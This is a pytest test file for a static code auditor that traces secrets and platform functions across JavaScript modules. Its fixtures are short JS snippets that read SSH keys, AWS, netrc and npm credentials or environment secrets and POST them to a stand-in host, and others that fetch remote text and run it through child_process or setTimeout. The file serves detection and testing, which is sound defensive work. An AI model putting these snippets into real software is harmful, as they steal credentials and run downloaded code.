"""What one JavaScript module of a tool reads and another one sends or runs."""

from __future__ import annotations

import pytest
from support.code import audit_code

READERS = {
    "CommonJS": {
        "lib.js": "const fs = require('fs');\nfunction load() { return fs.readFileSync('/root/.ssh/id_rsa'); }\n"
        "module.exports = { load };\n",
        "main.js": "const { load } = require('./lib');\nfetch('http://x.invalid', { method: 'POST', body: load() });\n",
    },
    "ES modules under other endings": {
        "src/lib.ts": "import fs from 'fs';\nexport const load = () => fs.readFileSync('/root/.aws/credentials');\n",
        "main.ts": "import { load as l } from './src/lib.js';\nawait fetch('http://x.invalid', { body: l() });\n",
    },
    "a constant": {
        "lib.js": "exports.key = process.env.STRIPE_SECRET_KEY;\n",
        "main.js": "const lib = require('./lib.js');\nrequire('https').request('http://x.invalid').write(lib.key);\n",
    },
    "an exported object of a class": {
        "lib.js": "class Store { get() { return require('fs').readFileSync('/root/.netrc'); } }\n"
        "module.exports = new Store();\n",
        "main.js": "const store = require('./lib');\nfetch('http://x.invalid', { body: store.get() });\n",
    },
    "a sender elsewhere": {
        "net.js": "const https = require('https');\n"
        "module.exports.send = function (d) { const r = https.request('http://x.invalid'); r.end(d); };\n",
        "main.js": "const { send } = require('./net');\nsend(require('fs').readFileSync('/root/.ssh/id_rsa'));\n",
    },
    "reader and sender elsewhere": {
        "a.js": "exports.get = () => require('fs').readFileSync('/root/.npmrc');\n",
        "b.js": "exports.put = (d) => fetch('http://x.invalid', { body: d });\n",
        "main.js": "const a = require('./a'), b = require('./b');\nb.put(a.get());\n",
    },
    "modules that import each other": {
        "a.js": "const b = require('./b');\nexports.x = () => b.y();\nexports.z = process.env.A_TOKEN;\n",
        "b.js": "const a = require('./a');\nexports.y = () => a.x() + a.z;\n",
        "main.js": "const b = require('./b');\nfetch('http://x.invalid', { body: b.y() });\n",
    },
}


@pytest.mark.parametrize("files", READERS.values(), ids=READERS)
def test_a_secret_is_followed_from_one_file_into_the_connection_of_another(files: dict[str, str]) -> None:
    sent = [item for item in audit_code(files).findings if item.rule == "code-credential-sent"]
    assert [(item.location.path.partition(".")[0], item.location.line) for item in sent] == [("main", 2)]


def test_the_whole_environment_is_followed_through_a_file_that_only_forwards() -> None:
    files = {
        "net.js": "export function post(u, d) { return fetch(u, { method: 'POST', body: d }); }\n",
        "mid.js": "export { post as deliver } from './net.js';\n",
        "main.js": "import * as m from './mid.js';\nm.deliver('http://x.invalid', JSON.stringify(process.env));\n",
    }
    assert ("code-environment-sent", "main.js") in {(f.rule, f.location.path) for f in audit_code(files).findings}


def test_a_function_of_the_platform_is_followed_under_the_name_another_file_gives_it() -> None:
    files = {
        "lib.js": "module.exports = { run: require('child_process').exec };\n",
        "main.js": "const { run } = require('./lib');\nrun(process.argv[2]);\n",
    }
    assert ("javascript-shell-command", "main.js") in {(f.rule, f.location.path) for f in audit_code(files).findings}


def test_files_that_share_nothing_secret_are_not_mixed_up() -> None:
    files = {
        "lib.js": "exports.key = process.env.A_TOKEN;\nexports.name = 'x';\nexports.keep = (d) => d.length;\n",
        "main.js": "const lib = require('./lib');\nfetch('http://x.invalid', { body: lib.name });\n"
        "lib.keep(lib.key);\n",
    }
    assert not [item for item in audit_code(files).findings if item.rule == "code-credential-sent"]


SCAN = "async function scan() { return (await fetch('https://api.acme.invalid/x')).text(); }\n"


def test_a_function_of_another_file_is_called_later_and_no_text_of_it_runs() -> None:
    files = {
        "b.js": f"{SCAN}module.exports = {{ scan }};\n",
        "a.js": "const { scan } = require('./b');\nsetInterval(scan, 9);\n",
    }
    assert "javascript-downloaded-execution" not in {finding.rule for finding in audit_code(files).findings}


@pytest.mark.parametrize(
    "text",
    [
        "const t = await scan();\nsetTimeout(t, 9);\n",
        "let run = scan;\nif (process.argv[2]) run = await scan();\nsetTimeout(run, 9);\n",
        "scan().then((t) => setTimeout(t, 9));\n",
    ],
)
def test_what_a_function_of_another_file_fetches_is_no_function(text: str) -> None:
    files = {"b.mjs": f"{SCAN}export {{ scan }};\n", "a.mjs": f"import {{ scan }} from './b.mjs';\n{text}"}
    assert "javascript-downloaded-execution" in {finding.rule for finding in audit_code(files).findings}


@pytest.mark.parametrize(
    ("given", "used"),
    [
        ('module.exports = require("child_process");', 'const b = require("./b");\n%s b.execSync(t);'),
        (
            'const c = require("child_process");\nmodule.exports = { run: c.execSync };',
            'const { run } = require("./b");\n%s run(t);',
        ),
        ('export { execSync as run } from "node:child_process";', 'import { run } from "./b";\n%s run(t);'),
        ('export * from "node:child_process";', 'import { execSync } from "./b";\n%s execSync(t);'),
        ('export * as cp from "node:child_process";', 'import { cp } from "./b";\n%s cp.execSync(t);'),
    ],
)
def test_what_another_file_hands_on_of_the_platform_is_known(given: str, used: str) -> None:
    fetched = 'const t = await (await fetch("https://c.example.invalid/a")).text();'
    found = audit_code({"b.js": given + "\n", "a.js": used % fetched + "\n"})
    assert "javascript-downloaded-execution" in {each.rule for each in found.findings}
    found = audit_code({"b.js": given + "\n", "a.js": (used % 'const t = "date";') + "\n"})
    assert "javascript-downloaded-execution" not in {each.rule for each in found.findings}
